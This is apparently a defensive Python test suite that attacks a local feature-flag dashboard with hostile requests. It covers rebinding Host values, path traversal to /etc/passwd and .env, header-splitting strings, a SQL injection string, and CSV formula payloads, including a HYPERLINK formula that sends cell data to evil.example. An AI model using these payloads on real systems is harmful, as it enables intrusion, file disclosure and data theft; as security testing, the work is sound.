"""Attacks by well-formed requests: hosts, paths, downloads, and what every response must say."""

import csv
import io
import re
import time
from urllib.parse import quote

from attack_table import AttackTable
from wire_attacks import Wire

KEY = "checkout/guest_checkout"
TEXT_KEY = "checkout/notice"

HEADERS = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "same-origin",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
}


def _timed(call):
    began = time.monotonic()
    answer = call()
    return answer, time.monotonic() - began


def wrong_hosts(port):
    """Names that lead here, or look as if they did, and none that the dashboard answers under."""
    names = [
        "evil.example", "flagboard.evil.example", "127.0.0.1.evil.example", "localhost.evil.example", "127.0.0.1.nip.io",
        "localtest.me", "0.0.0.0", "0", "127.1", "127.0.1", "127.0.0.2", "127.0.0.01", "0127.0.0.1", "2130706433", "0x7f000001",
        "0x7f.1", "017700000001", "[::]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:0:0:1]", "[::1%25lo]", "::1", "localhost.", "127.0.0.1.",
        "LOCALHOST.", "ip6-localhost", "localhost.localdomain", "user@localhost", "user@127.0.0.1", "localhost@evil.example",
        "localhost%00", "localhost%2eevil.example", "localhost,evil.example", "localhost evil.example", "loc\u0430lhost", "ｌocalhost",
        "localhost\u3002", "xn--localhost-", "*", "null", "file", "127.0.0.1\t", "[127.0.0.1]", "host.docker.internal",
    ]
    own = ["127.0.0.1", "localhost", "[::1]"]
    ports = ["", ":", ":80", ":443", ":1", f":{port}0", f":0{port}", f":+{port}", f":{port} ", f":{port}/", f":{port}#", f":{port}?x", ":65536"]
    hosts = [f"{name}:{port}" for name in names] + [f"{name}" for name in names[:4]]
    # Blanks around a field are none of its value.
    hosts += [f"{name}{end}" for name in own for end in ports if f"{name}{end}".strip() != f"{name}:{port}"]
    return hosts + [f"http://localhost:{port}", f"//localhost:{port}", f"localhost:{port}:{port}", f"localhost:{port},localhost:{port}"]


def hosts(server, every=1):
    """Only the exact names are served, and no other learns anything."""
    table, wire = AttackTable(), Wire(server)
    for host in wrong_hosts(server.port)[::every]:
        for path in ("/", f"/flags/{KEY}", "/export/flags.xml", "/flagboard.css", "/nowhere"):
            data = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
            statuses, answer, seconds = wire.send(data)
            told = b"guest_checkout" in answer.replace(path.encode(), b"") or b"flags.xml" in answer.replace(path.encode(), b"")
            table.note("DNS rebinding: other hosts", f"{host!r} {path}: {statuses}", statuses not in ([421], [400]) or told, seconds)
    for host in (f"127.0.0.1:{server.port}", f"localhost:{server.port}", f"LocalHost:{server.port}", f"[::1]:{server.port}"):
        data = f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
        statuses, _, seconds = wire.send(data)
        table.note("own hosts that are refused", f"{host!r}: {statuses}", statuses != [200], seconds)
    return table.rows()


def headers(server, every=1):
    """Every response says that it is not to be framed, guessed at or read by other sites."""
    table = AttackTable()
    paths = [
        "/", "/?q=x", "/?q=%ff", "/?a=1&a=2", f"/flags/{KEY}", "/flags/none", "/flags", "/flags/", "/history", "/history/1", "/history/x",
        "/export", "/export/flags.xml", "/export/history.csv", "/export/none", "/flagboard.css", "/icon.svg", "/none.css", "/none",
        "//", "/..", "/%00", "/%ff", "/flags/%ff", "/healthz", "/api/v1/flags", "/events", "/import",
        "/compare", "/history/at", "/definitions/new", "/batch", "/selected", "/restarted", "/settings", "/searches", "/help", "/data?key=x", "/source?file=x.swift", "/access",
    ]
    methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND"]
    sites = [{}, {"Sec-Fetch-Site": "same-origin"}, {"Host": "evil.example"}]
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    attempts = [(method, path, site) for path in paths for method in methods for site in sites]
    for method, path, site in attempts[::every]:
        body = b"action=x" if method in ("POST", "PUT", "PATCH") else None
        answer, seconds = _timed(lambda: server.request(method, path, body, site | form, reads_body=False))
        missing = [name for name, value in HEADERS.items() if answer.headers.get(name) != value]
        policy = answer.headers.get("content-security-policy", "")
        if "frame-ancestors 'none'" not in policy or "default-src 'self'" not in policy or "unsafe" in policy:
            missing.append("content-security-policy")
        if not answer.headers.get("cache-control"):
            missing.append("cache-control")
        what = f"{method} {path} {site}: {answer.status} lacks {missing}"
        table.note("responses without a header", what, bool(missing) or answer.status >= 500, seconds)
    return table.rows()


def _spellings(name):
    """Ways to write one name of a path, percent-encoded once, twice, and in UTF-8 that is too long."""
    dots = ["..", "%2e%2e", "%2E.", ".%2e", "%252e%252e", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "..%00", "...", "..;", "%u002e%u002e", "．．"]
    slashes = ["/", "%2f", "%2F", "%5c", "\\", "%252f", "%c0%af", "//", "/./", "~1"]
    for dot in dots:
        for slash in slashes:
            yield f"/{dot}{slash}{name}"
            yield f"/{dot}{slash}{dot}{slash}{name}"


def static_paths():
    """Paths that would lead out of the public folder, or to what in it is no file."""
    yield from _spellings("Package.swift")
    yield from _spellings("Templates/layout.mustache")
    yield from [
        "/Public/flagboard.css", "//flagboard.css", "/./flagboard.css", "/x/../flagboard.css", "/flagboard.css/", "/flagboard.css/.",
        "/flagboard.css%00", "/flagboard.css%00.svg", "/flagboard.css%20", "/flagboard.css.", "/flagboard.css::$DATA", "/flagboard.css~",
        "/FLAGBOARD.CSS", "/Flagboard.css", "/flagboard%2ecss%2f", "/%2fflagboard.css", "/%66lagboard.css%2f..", "/.", "/..", "/%2e", "/.git/config",
        "/.env", "/etc/passwd", "//etc/passwd", "/%2fetc%2fpasswd", "/file:///etc/passwd", "/proc/self/environ", "/dev/zero", "/flags.xml",
        "/flags.manifest.xml", "/flags.history.sqlite", "/flags.history.sqlite-wal", "/.flags.xml.lock", "/link.txt", "/folder.d", "/folder.d/",
        "/" + "a" * 5000 + ".css", "/" + "../" * 500 + "etc/passwd", "/" + "%2e%2e%2f" * 500 + "etc/passwd", "/CON.txt", "/%E2%80%AEssc.draobgalf",
        "/assets", "/assets/", "/assets/0", "/assets/0/", "/assets/0/Package.swift", "/assets//flagboard.css", "/assets/x/flagboard.css",
        "/assets/0/0/flagboard.css", "/assets/0/../flagboard.css", "/assets/0/%2e%2e%2fPackage.swift", "/assets/0%2fflagboard.css", "/ASSETS/0/flagboard.css",
    ]


def _keys():
    """Key paths in addresses as nobody would write them."""
    yield from (path.replace("/", "/flags/", 1) for path in _spellings("flags.xml"))
    yield from (
        f"/flags/{key}"
        for key in [
            "~0", "~1", "~", "~2", "~~", "~0~1", "a~", "%7e1", "%7E0", "%7e", ".", "..", "%2e", "a/..", "a//b", "/", "//", "%2f", "%00", "a%00b", "%ff",
            "%c0%af", "%ed%a0%80", "%f8%88%80%80%80", "%", "%4", "%zz", "%25", "%2525", "%250a", "%0d%0aX:%20y", "%0a", "%0d", "a" * 5000,
            "a/" * 2000 + "a", "%F0%9F%98%80" * 500, "~1" * 2000, "a?b", "a%3fb", "a%23b", "checkout%2fguest_checkout%2f", "CHECKOUT/guest_checkout",
            "checkout/guest_checkout%20", "checkout/guest_checkout%00", "checkout//guest_checkout", "checkout/./guest_checkout", "{{key}}",
            "checkout/guest_checkout\u0301", "e\u0301", "\u00e9", "\u202e", "\ufeff", "'", "''--", "';DROP TABLE history;--", "\\", "a\\b", "*", "(",
        ]
    )


def paths(server, every=1):
    """No path leads to a file outside the public folder, to another flag's page, or to a failure."""
    table, wire = AttackTable(), Wire(server)
    secrets = [b"swift-tools-version", b"CONTENT_TYPE:SAFE", b"root:x:0", b"SQLite format", b"[core]", b"<plist", b"PATH="]
    static = list(static_paths())
    for path in static[::every]:
        statuses, answer, seconds = wire.send(wire.get(path).encode())
        through = any(secret in answer for secret in secrets) or not statuses or statuses[0] not in (400, 404, 405, 431)
        table.note("paths out of the public folder", f"{path[:80]!r}: {statuses}", through, seconds)
    for path in list(_keys())[::every]:
        for target in (path, "/flags?key=" + path.removeprefix("/flags/"), "/history?key=" + path.removeprefix("/flags/")):
            statuses, answer, seconds = wire.send(wire.get(target).encode())
            is_history = target.startswith("/history")
            right = statuses and statuses[0] in ((200, 400) if is_history else (400, 404, 405, 431))
            through = any(secret in answer for secret in secrets) or not right
            table.note("paths that are no flag's", f"{target[:80]!r}: {statuses}", through, seconds)
    return table.rows()


def splitting(server, every=1):
    """Nothing that is sent ends a field or a head of the response."""
    table, wire = AttackTable(), Wire(server)
    marks = ["\r\nX-Split: 1", "%0d%0aX-Split:%201", "%0aX-Split:%201", "%0dX-Split:%201", "%E5%98%8D%E5%98%8AX-Split:%201", "%250d%250aX-Split:%201"]
    marks += ["%0d%0a%0d%0a<script>1</script>", "%u000d%u000aX-Split:%201", "%c4%8d%c4%8aX-Split:%201"]
    targets = ["/{}", "/flags/{}", f"/flags/{KEY}?saved={{}}", "/?q={}", "/history?actor={}", "/export/{}", "/history/{}", "/flagboard.css?{}"]
    for mark in marks[::every]:
        if "\r" not in mark:
            for target in targets:
                statuses, answer, seconds = wire.send(wire.get(target.format(mark)).encode())
                _judge_split(table, target.format(mark), statuses, answer, seconds)
        fields = server.editor(TEXT_KEY)
        for field in ("provider", "value", "reason", "revision"):
            body = "&".join(
                f"{name}={mark if name == field else quote(value, safe='')}"
                for name, value in (fields | {"action": "set", "reason": "", "value": "x"}).items())
            form = "Content-Type: application/x-www-form-urlencoded\r\nSec-Fetch-Site: same-origin\r\n"
            length = len(body.encode())
            data = f"POST /flags/{TEXT_KEY} HTTP/1.1\r\n{wire.host}{form}Connection: close\r\nContent-Length: {length}\r\n\r\n{body}"
            statuses, answer, seconds = wire.send(data)
            _judge_split(table, f"{field}={mark!r}", statuses, answer, seconds)
            fields = server.editor(TEXT_KEY)
    return table.rows()


def _judge_split(table, what, statuses, answer, seconds):
    head = answer.partition(b"\r\n\r\n")[0].split(b"\r\n")
    fields = [line.partition(b":")[0].lower() for line in head[1:]]
    whole = all(re.fullmatch(rb"[a-z-]+", field) for field in fields) and b"x-split" not in fields
    bare = any(byte in line for line in head for byte in (b"\r", b"\n"))
    table.note("response splitting", f"{what[:80]!r}: {statuses}", not whole or bare or len(statuses) != 1 or statuses[0] >= 500, seconds)


def formulas():
    """Texts that a spreadsheet would calculate, or that would make other cells of themselves."""
    starts = ["=", "+", "-", "@", "\t", "\r", "\n", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u3000=", "\ufeff=", "\u200b=", "＝", "＋", "－", "＠", "|", "%", "'=", '"=', ",=", ";="]
    bodies = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1)', "SUM(1,2)", 'IMPORTXML("http://evil.example","//a")']
    yield from (start + body for start in starts for body in bodies)
    yield from ['a,"=1"', 'a\r\n=1+1', '"', '""', '","=1', '\n', ',', ';', "a\t=1", '"\u0301,=1', ',\u0301=1', "\r\n\u0301=1", "-1", "1e5", "-0x1"]


CALCULATED = tuple("=+-@\t\r\n＝＋－＠")


def spreadsheets(server, every=1):
    """No cell of the downloaded history is calculated, and each holds the text that was sent."""
    table = AttackTable()
    # A form knows one line end, and a change to the same text is none.
    sent = list(dict.fromkeys(re.sub("\r\n?", "\n", text) for text in formulas()))[::every]
    rows_before = server.get("/export/history.jsonl").text.count("\n")
    for text in sent:
        answer = server.post(f"/flags/{TEXT_KEY}", {"action": "set", "value": text, "reason": text})
        assert answer.status == 303, answer.text
    answer, seconds = _timed(lambda: server.get("/export/history.csv"))
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))[rows_before:]
    table.note("spreadsheet rows torn or lost", f"{len(rows)} rows for {len(sent)}", len(rows) != len(sent), seconds)
    for value, row in zip(sent, rows):
        whole = None not in row and None not in row.values()
        for shown in (row["after"], row["reason"]):
            # An apostrophe stands before what would begin a formula, also behind what some programs part cells by.
            same = re.sub(r"(^|[;\t\r\n])'", r"\1", shown) == re.sub(r"(^|[;\t\r\n])'", r"\1", value)
            number = re.fullmatch(r"-?[0-9.]+(e[0-9]+)?", shown)
            calculated = shown.lstrip(" \u00a0\u3000\ufeff\u200b").startswith(CALCULATED) and not number
            table.note("spreadsheet formulas", f"{value!r} became {shown!r}", not same or calculated or not whole)
    for name, what in {"flags.xml": "xml", "history.csv": "csv", "history.jsonl": "jsonl", "effective.xml": "xml"}.items():
        answer, seconds = _timed(lambda: server.get(f"/export/{name}"))
        right = answer.headers["content-disposition"] == f'attachment; filename="{name}"' and what in answer.headers["content-type"]
        table.note("downloads that a browser would show", f"{name}: {answer.headers}", not right, seconds)
    return table.rows()


def run(server, every=1):
    """All of these on a server of the demonstration; returns rows of what got through."""
    rows = []
    for part in (hosts, headers, paths, splitting, spreadsheets):
        rows += part(server, every)
    return rows
